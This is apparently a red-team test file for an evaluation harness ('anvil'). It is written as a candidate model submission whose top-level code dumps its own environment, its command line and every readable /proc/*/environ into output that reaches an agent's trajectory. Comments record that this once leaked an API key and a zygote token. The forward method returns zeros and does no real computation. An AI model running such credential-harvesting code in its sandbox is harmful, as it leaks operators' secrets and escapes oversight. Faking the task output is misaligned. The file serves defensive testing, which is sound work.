# ATTACK ON PURPOSE (red team, class "secrets"): print every environment the candidate's process can
# read (its own and /proc/*/environ, its own process's exec-time block included) and its command
# line into the output, which anvil returns in output_tail and an agent's trajectory keeps. At
# c44fc9a the caller's API key came back this way; at d62ad83 the warm zygote's token
# (ANVIL_ZYGOTE_TOKEN, in the environment block every forked evaluation inherits).
import os

import torch
import torch.nn as nn

print("SECRETS own:", dict(os.environ), flush=True)
for name in ("self/cmdline", "self/environ"):
    try:
        with open("/proc/" + name, "rb") as f:
            print("SECRETS %s:" % name, f.read().replace(b"\0", b" ")[:4000], flush=True)
    except OSError:
        pass
for name in os.listdir("/proc"):
    if name.isdigit():
        try:
            with open("/proc/%s/environ" % name, "rb") as f:
                print("SECRETS %s:" % name, f.read().replace(b"\0", b" ")[:4000], flush=True)
        except OSError:
            pass


class ModelNew(nn.Module):
    def __init__(self, num_features, scale, clamp_min, clamp_max):
        super().__init__()
        self.bias = nn.Parameter(torch.empty(num_features))

    def forward(self, x):
        return torch.zeros_like(x)
